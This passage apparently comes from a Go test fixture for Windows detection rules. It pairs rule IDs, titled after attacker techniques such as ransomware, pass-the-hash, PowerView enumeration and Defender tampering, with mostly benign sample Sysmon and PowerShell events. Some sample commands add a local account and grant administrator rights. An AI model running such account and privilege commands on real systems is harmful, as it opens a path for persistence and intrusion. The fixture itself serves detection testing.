			ID:      "5513d9ed-be26-55ca-9a13-709323de6dc5", // Windows Script Host Runs a VBScript From a User-Writable Path
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cscript.exe",
				"CommandLine": "cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /dli",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "f5ed4298-42c4-5824-843e-14e15864bf42", // Windows Script Host Runs a JScript From a User-Writable Path
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cscript.exe",
				"CommandLine": "cscript.exe //nologo C:\\Windows\\System32\\winrm.vbs get winrm/config",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "3749450e-6a85-5815-964b-1c7416e2ba79", // AutoIt or AutoHotkey Interpreter Runs a Script From a User-Writable Path
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Program Files\\AutoHotkey\\AutoHotkey.exe",
				"CommandLine": "\"C:\\Program Files\\AutoHotkey\\AutoHotkey.exe\" \"C:\\Program Files\\AutoHotkey\\WindowSpy.ahk\"",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "cae60c39-4510-5682-bd85-ddd78962ebc0", // Data Archived With a Password or Into Volumes by a Command-Line Archiver
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Program Files\\7-Zip\\7z.exe",
				"CommandLine": "\"C:\\Program Files\\7-Zip\\7z.exe\" x C:\\Users\\bob\\Downloads\\photos.zip -oC:\\Users\\bob\\Pictures",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "f271c951-751c-5a66-88a0-d3cb7aa21947", // Data Compressed From PowerShell Into a Staging Folder
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Compress-Archive -Path .\\build\\* -DestinationPath .\\release\\app.zip",
			},
		},
		{
			ID:      "dd2c2602-2003-5190-8b5d-11c725dc97db", // Outlook Data File Copied or Archived From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
				"CommandLine": "\"OUTLOOK.EXE\" /importprf C:\\Users\\bob\\corp.prf",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "a4f72291-d889-5f79-aeba-5cc8ac3c810b", // Webcam Capture From PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-PnpDevice -Class Camera | Select-Object FriendlyName, Status",
			},
		},
		{
			ID:      "925b82ff-a5ee-545d-bceb-b2399a545d17", // Video Capture Library Loaded by a Script Host or User-Path Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
			Fields: map[string]string{
				"Image":       "C:\\Program Files\\WindowsApps\\Microsoft.WindowsCamera_2024\\WindowsCamera.exe",
				"ImageLoaded": "C:\\Windows\\System32\\avicap32.dll",
			},
		},
		{
			ID:      "483a6cb8-af6d-5655-b398-239c9bccd76a", // File Uploaded Over FTP, TFTP or Plain HTTP From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\curl.exe",
				"CommandLine": "curl.exe -o C:\\Users\\bob\\Downloads\\tool.zip https://example.com/tool.zip",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "1bcd7235-619b-539a-92f2-36a1cafda898", // Rclone or MEGA Client Copies Data to Cloud Storage
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\ProgramData\\rclone\\rclone.exe",
				"CommandLine": "rclone.exe listremotes",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "4f093d41-0e4a-56c2-bdc0-c9372e1a4ca4", // Archive Split Into Fixed-Size Volumes
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Program Files\\WinRAR\\rar.exe",
				"CommandLine": "rar.exe x C:\\Users\\bob\\Downloads\\docs.part1.rar",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "a746fe2b-702d-5644-a0c6-7924b5d30f2d", // File Uploaded With scp, pscp or sftp
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\OpenSSH\\scp.exe",
				"CommandLine": "scp.exe admin@build01:/srv/artifacts/app.zip C:\\Users\\bob\\Downloads\\app.zip",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "4fb87cb9-267d-52b5-9cd5-16daaeaaaf63", // Volume Shadow Copies or Backup Catalog Deleted
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\vssadmin.exe",
				"CommandLine": "vssadmin.exe list shadows",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "81c604ce-8e13-58a5-860a-ad205e0d7337", // Security, Backup or Database Service Stopped From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net stop spooler",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "fa9fec36-b37f-51bc-a7bb-d0ad3096f3cf", // Drive Formatted or Free Space Wiped From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cipher.exe",
				"CommandLine": "cipher.exe /e C:\\Users\\bob\\Private",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "59bd31d3-cc4f-53ed-9e12-3a918241044a", // Ransom Note Written
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          "C:\\Windows\\System32\\notepad.exe",
				"TargetFilename": "C:\\Users\\bob\\Documents\\README.txt",
			},
		},
		{
			ID:      "fae1b996-0294-55fa-8493-ee26e3cd2ad3", // System Shutdown or Reboot Forced by a Script or User-Path Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\shutdown.exe",
				"CommandLine": "shutdown.exe /r /t 600 /c \"Updates\"",
				"ParentImage": "C:\\Windows\\System32\\svchost.exe",
			},
		},
		{
			ID:      "c6c98533-3847-5f94-8075-f99ca3541005", // Account Deleted or Its Password Reset From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net user bob",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "ec01ddad-c5d0-5170-b872-44ffc1b835a7", // Desktop Wallpaper Changed by a Script Host or User-Path Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Image":        "C:\\Windows\\explorer.exe",
				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Control Panel\\Desktop\\Wallpaper",
				"Details":      "C:\\Users\\bob\\Pictures\\beach.jpg",
			},
		},
		{
			ID:      "824e2c82-8bbb-5abe-a309-caebab6b9768", // Cryptocurrency Miner Started
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Program Files\\7-Zip\\7z.exe",
				"CommandLine": "7z.exe x C:\\Users\\bob\\Downloads\\stratum-docs.zip",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "1d22f737-9625-52cd-90ea-526e54faa04f", // Event Log Disabled or Redirected With wevtutil
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\wevtutil.exe",
				"CommandLine": "wevtutil sl Security /ms:1073741824",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "39db8e43-bf9a-433d-bbf0-4393fbc895d4", // Network Configuration Discovery From a Shell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":             "C:\\Windows\\System32\\ipconfig.exe",
				"CommandLine":       "ipconfig /all",
				"ParentImage":       "C:\\Windows\\System32\\cmd.exe",
				"ParentCommandLine": "C:\\Windows\\system32\\cscript.exe C:\\Windows\\system32\\gatherNetworkInfo.vbs",
			},
		},
		{
			ID:      "5dcab0fb-0d84-5adf-a9da-914fa3d71112", // Network Connection Discovery With netstat From a Shell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":             "C:\\Windows\\System32\\NETSTAT.EXE",
				"CommandLine":       "netstat -ano",
				"ParentImage":       "C:\\Windows\\System32\\cmd.exe",
				"ParentCommandLine": "C:\\Windows\\system32\\cscript.exe C:\\Windows\\system32\\gatherNetworkInfo.vbs",
			},
		},
		{
			ID:      "79aca5d5-1091-577b-b1b0-060dcb51ae4c", // Network Share Discovery With net view or net share
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net use Z: \\\\fs01\\team",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "93744a6e-b3e3-4535-9cca-c59f37a2fce7", // Service Discovery With tasklist /svc
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":            "C:\\Windows\\System32\\tasklist.exe",
				"CommandLine":      "tasklist /svc",
				"ParentImage":      "C:\\Windows\\System32\\cmd.exe",
				"CurrentDirectory": "C:\\Users\\bob\\AppData\\Local\\Temp\\RPT1.tmp\\CabFolder\\",
			},
		},
		{
			ID:      "e2a9136e-c4ad-5fa0-8d2e-3658afd4f891", // Process Discovery With Filtered or Verbose tasklist
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\tasklist.exe",
				"CommandLine": "tasklist",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "173c5e3c-12ff-4fe8-9bf5-ba3b4cfba502", // Network Session Enumeration With net session
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net start",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "9349dc6c-3106-50d0-99d4-80f1fb4b3e3a", // Logged-On User Enumeration With quser, qwinsta or query
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\query.exe",
				"CommandLine": "query process",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "48408dd1-6f1a-4e2c-ae21-be161b7d8484", // Local Account Enumeration With net.exe
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net user backup P4ss /add",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "b1418d15-530f-5ccb-9ed7-a2f5dba1b745", // Local Group Enumeration With net.exe
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net localgroup administrators bob /add",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "ac775fe3-c6c0-4be2-a8ab-0221108205ba", // Domain Account Enumeration With net.exe
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net use /persistent:no",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "a9fd7276-482b-5f37-b7f0-3d0f2844d99d", // Domain Group Enumeration With net.exe
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net localgroup administrators",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "b30869c5-2eb6-49e2-9af8-223ebf76bb4b", // Domain Trust Discovery
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\nltest.exe",
				"CommandLine": "nltest /sc_query:corp.local",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "b9155659-4276-5302-8e58-ecb35c1930ab", // Domain Controller Discovery With nltest
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\nltest.exe",
				"CommandLine": "nltest /sc_verify:corp.local",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "a36297b3-a407-5f07-aa54-d57cd995585c", // Directory Enumeration With AdFind or dsquery
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\dsregcmd.exe",
				"CommandLine": "dsregcmd /status",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "d346ce27-9df4-449f-856d-71ad376ddb3e", // Program in a User Folder Connects to SMB on Another Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
			Fields: map[string]string{
				"Image":           "C:\\Users\\bob\\Desktop\\tool.exe",
				"DestinationPort": "445",
				"DestinationIp":   "127.0.0.1",
				"Initiated":       "true",
			},
		},
		{
			ID:      "1a7b9cce-e2d8-5974-adf5-268037fbd85d", // Program in a User Folder Connects to the RPC Endpoint Mapper on Another Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
			Fields: map[string]string{
				"Image":           "C:\\Windows\\System32\\svchost.exe",
				"DestinationPort": "135",
				"DestinationIp":   "10.0.0.7",
				"Initiated":       "true",
			},
		},
		{
			ID:      "306c1198-39e2-5290-9cc9-81c1eb49c462", // Program in a User Folder Connects to WinRM on Another Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
			Fields: map[string]string{
				"Image":           "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"DestinationPort": "5985",
				"DestinationIp":   "10.0.0.7",
				"Initiated":       "true",
			},
		},
		{
			ID:      "36158a3b-76c7-4598-8c65-70a67c95322c", // Certutil Downloads a File
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\certutil.exe",
				"CommandLine": "certutil -urlcache *",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "97c12bce-a064-5cea-bca6-8bee46a42381", // Certutil Decodes a File
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\certutil.exe",
				"CommandLine": "certutil -encode C:\\Users\\bob\\c.cer C:\\Users\\bob\\c.b64",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "f04a79fa-70f2-4b50-af9e-180f3c598909", // PowerShell Loads Kerberos Crypto or Debug-Help Libraries
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"ImageLoaded": "C:\\Windows\\System32\\crypt32.dll",
			},
		},
		{
			ID:      "f0f6ee2e-f558-521a-8f29-153ac7e59831", // Reflective PE Loader in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "[System.Reflection.Assembly]::LoadWithPartialName(\"System.Windows.Forms\") | Out-Null",
			},
		},
		{
			ID:      "7463c8f1-0687-541e-b896-2c39ab2f64cc", // Reflective PE Loader Functions in the PowerShell Module Log
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Test-Path): \"Test-Path\"",
			},
		},
		{
			ID:      "e536af5d-d351-56d7-ab17-c35a5c1da8f6", // Pass-the-Hash Logon Started From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\runas.exe",
				"CommandLine": "runas /netonly /user:corp\\admin cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "f21d9c24-c99f-50a7-91f1-6a0237454ad0", // Kerberos Ticket Injected Into the Logon Session (Pass the Ticket)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\klist.exe",
				"CommandLine": "klist purge",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "aa74d2c7-6b2b-57f4-85ce-ab00a67d968e", // Electron Application Started With a Command-Launching Switch
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
				"CommandLine": "Teams.exe --type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
				"ParentImage": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
			},
		},
		{
			ID:      "0c79254e-e598-5031-8354-6761f9756421", // User Account Created With a Machine-Account Style Name
			Channel: "Security", EventID: 4720,
			Fields: map[string]string{
				"EventID":         "4720",
				"TargetUserName":  "svc_backup",
				"SubjectUserName": "bob",
			},
		},
		{
			ID:      "c7cc4c22-8952-5ab3-ac6d-b8a92f7a29f0", // Disk Image or Container File Downloaded by a Browser or Mail Client
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
				"TargetFilename": "C:\\Users\\bob\\Downloads\\Invoice_2026.pdf",
			},
		},
		{
			ID:      "72118f3f-2491-54db-95de-fbf9766df304", // Password Filter or Notification Package Registered With LSA
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Image":        "C:\\Windows\\System32\\svchost.exe",
				"TargetObject": "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\LmCompatibilityLevel",
				"Details":      "DWORD (0x00000005)",
			},
		},
		{
			ID:      "7686fb18-7957-5fd1-b7dc-396386ccb665", // Network Packet Capture Started From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\netsh.exe",
				"CommandLine": "netsh trace stop",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "7686fb18-7957-5fd1-b7dc-396386ccb665", // Network Packet Capture Started From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Program Files\\Wireshark\\dumpcap.exe",
				"CommandLine": "\"C:\\Program Files\\Wireshark\\dumpcap.exe\" -n -i \\Device\\NPF_{D805082F} -y EN10MB",
				"ParentImage": "C:\\Program Files\\Wireshark\\Wireshark.exe",
			},
		},
		{
			ID:      "0bbd66fb-f1fe-56b9-b147-27a7268b4e3f", // Stored Windows Credentials Listed From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cmdkey.exe",
				"CommandLine": "cmdkey /add:fs01 /user:corp\\bob /pass",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "3eda2d15-47a0-54cc-812b-6a936b1ec2e1", // Defender Reports Real-Time Protection Disabled
			Channel: "Microsoft-Windows-Windows Defender/Operational", EventID: 5000,
			Fields: map[string]string{
				"EventID":      "5000",
				"Product Name": "Microsoft Defender Antivirus",
			},
		},
		{
			ID:      "ba715e9e-7f96-5e14-b7eb-aa42f8cc965d", // Defender Configuration Changed to Exclude Files or Weaken Protection
			Channel: "Microsoft-Windows-Windows Defender/Operational", EventID: 5007,
			Fields: map[string]string{
				"EventID":   "5007",
				"New Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignatureUpdateLastAttempted = 0x1D94F",
			},
		},
		{
			ID:      "7acb9b8e-344d-4e0e-a931-4238015b4f99", // PowerView Domain User Enumeration (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Set-Alias): \"Set-Alias\"\nParameterBinding(Set-Alias): name=\"Value\"; value=\"Get-DomainUser\"",
			},
		},
		{
			ID:      "346afce1-5b46-523f-8599-87fdd89efa27", // PowerView Domain Group Enumeration (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Set-Alias): \"Set-Alias\"\nParameterBinding(Set-Alias): name=\"Value\"; value=\"Get-DomainGroup\"",
			},
		},
		{
			ID:      "5d8e069f-faae-5f93-93d6-bb3e4b933605", // PowerView Domain Computer Enumeration (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Set-Alias): \"Set-Alias\"\nParameterBinding(Set-Alias): name=\"Value\"; value=\"Get-DomainComputer\"",
			},
		},
		{
			ID:      "b5f0a6ed-bf1b-5ebe-9c54-9b771149e625", // PowerView Directory ACL Enumeration (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Set-Alias): \"Set-Alias\"\nParameterBinding(Set-Alias): name=\"Value\"; value=\"Get-DomainObjectAcl\"",
			},
		},
		{
			ID:      "5faa0ece-69cc-5404-a3f2-586ff03575fc", // PowerView Group Policy Enumeration (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Set-Alias): \"Set-Alias\"\nParameterBinding(Set-Alias): name=\"Value\"; value=\"Get-DomainGPO\"",
			},
		},
		{
			ID:      "824cc74f-20a5-5ec0-a7da-e8b477db0887", // PowerView Domain Trust Enumeration (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Set-Alias): \"Set-Alias\"\nParameterBinding(Set-Alias): name=\"Value\"; value=\"Get-DomainTrust\"",
			},
		},
		{
			ID:      "50eef79e-4a58-418e-90b8-f5a529e020f2", // Hunting for Hosts Where the User Is Local Administrator
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Set-Alias): \"Set-Alias\"\nParameterBinding(Set-Alias): name=\"Value\"; value=\"Find-LocalAdminAccess\"",
			},
		},
		{
			ID:      "36fed34e-de45-46f3-8541-a9edb30b3da3", // Remote Session Enumeration With PowerView (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Set-Alias): \"Set-Alias\"\nParameterBinding(Set-Alias): name=\"Value\"; value=\"Get-NetSession\"",
			},
		},
		{
			ID:      "f68f7613-8b80-5075-96c1-571915910c25", // PowerView Logged-On User Hunting (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Set-Alias): \"Set-Alias\"\nParameterBinding(Set-Alias): name=\"Value\"; value=\"Get-NetLoggedon\"",
			},
		},
		{
			ID:      "b0cbd447-d709-4901-9457-ad0b863dfb4f", // PowerView Domain User Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "function Get-DomainUser {\n    [CmdletBinding()] Param([String[]] $Identity)\n}",
			},
		},
		{
			ID:      "cc78ca57-f675-5dc2-aeb0-8b5adfdf30e3", // PowerView Domain Group Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "function Get-DomainGroup {\n    [CmdletBinding()] Param([String[]] $Identity)\n}",
			},
		},
		{
			ID:      "e2ca4b66-343d-55c6-b0a6-7de6f8f04845", // PowerView Domain Computer Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "function Get-DomainComputer {\n    [CmdletBinding()] Param([String[]] $Identity)\n}",
			},
		},
		{
			ID:      "45d87a6b-b357-5e60-b9d9-6e2646681d5c", // PowerView Directory ACL Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "function Get-DomainObjectAcl {\n    [CmdletBinding()] Param([String[]] $Identity)\n}",
			},
		},
		{
			ID:      "5a6612cb-b41b-5eac-96e5-8e7979567e16", // PowerView Group Policy Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "function Get-DomainGPO {\n    [CmdletBinding()] Param([String[]] $Identity)\n}",
			},
		},
		{
			ID:      "324dad5f-f0fb-5e21-9efa-0de225e52f43", // PowerView Domain Trust Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "function Get-DomainTrust {\n    [CmdletBinding()] Param([String[]] $Identity)\n}",
			},
		},
		{
			ID:      "c1e65ac4-9daa-5bf6-b15f-7ac4288f2e80", // PowerView Domain Share Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "function Find-DomainShare {\n    [CmdletBinding()] Param([String[]] $Identity)\n}",
			},
		},
		{
			ID:      "1cdb3057-77c4-5218-a7b0-bbc2422c279e", // PowerView Remote Session Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "function Get-NetSession {\n    [CmdletBinding()] Param([String[]] $Identity)\n}",
			},
		},
		{
			ID:      "1d58e97b-9d40-586c-a2df-f7e04e6d7c43", // PowerView Logged-On User Hunting in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "function Get-NetLoggedon {\n    [CmdletBinding()] Param([String[]] $Identity)\n}",
			},
		},
		{
			ID:      "dd277b70-e987-55fd-a280-0ab952aeff39", // PowerView Local Administrator Hunting in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "function Find-LocalAdminAccess {\n    [CmdletBinding()] Param([String[]] $Identity)\n}",
			},
		},
		{
			ID:      "72fe4e3f-bb53-4260-adad-e12f8e2942d9", // PowerView-Style Domain User Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell -c Get-DomainUser -Identity x",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "3e807134-0bd7-5df9-8d77-f3dc0e25072a", // PowerView-Style Domain Group Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell -c Get-DomainGroup -Identity x",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "14418148-962d-5d1c-b4e1-4914ecbd5e0b", // PowerView-Style Domain Computer Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell -c Get-DomainComputer -Identity x",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "2128f6a2-2df0-5990-b0dc-a7a634395783", // PowerView-Style Directory ACL Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell -c Get-DomainObjectAcl -Identity x",
